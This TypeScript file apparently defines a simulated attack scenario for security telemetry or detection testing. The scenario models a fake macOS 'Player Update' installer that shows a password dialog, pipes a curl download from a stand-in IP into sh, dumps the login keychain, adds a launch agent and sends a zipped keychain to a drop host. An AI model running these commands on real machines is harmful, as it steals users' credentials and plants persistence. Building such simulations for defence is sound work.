import type { Story } from './story.ts';

/** A false installer asks for the password, takes the key chain and stays as a launch agent. */
export const macosStealer: Story = {
  name: 'A false installer takes the key chain',
  os: 'macos',
  play(host) {
    const { user } = host.description;
    const app = host.start(
      host.root,
      '/Volumes/Player Update/Installer.app/Contents/MacOS/Installer',
      '/Volumes/Player Update/Installer.app/Contents/MacOS/Installer',
      user,
    );
    host.start(
      app,
      '/usr/bin/osascript',
      'osascript -e display dialog "Player Update needs your password" default answer "" with hidden answer',
    );
    const shell = host.start(app, '/bin/zsh', 'zsh -c curl -s http://203.0.113.95/p | sh');
    const curl = host.start(shell, '/usr/bin/curl', 'curl -s http://203.0.113.95/p');
    host.connect(curl, { ip: '203.0.113.95', port: 80, url: 'http://203.0.113.95/p' });
    host.start(
      shell,
      '/usr/bin/security',
      `security dump-keychain -d /Users/${user}/Library/Keychains/login.keychain-db`,
    );
    host.file(shell, `/Users/${user}/Library/LaunchAgents/com.player.update.plist`);
    host.start(
      shell,
      '/bin/launchctl',
      `launchctl load -w /Users/${user}/Library/LaunchAgents/com.player.update.plist`,
    );
    host.start(shell, '/usr/bin/zip', `zip -r /tmp/out.zip /Users/${user}/Library/Keychains`);
    host.connect(shell, { ip: '203.0.113.96', port: 443, url: 'drop.example.net' });
  },
};
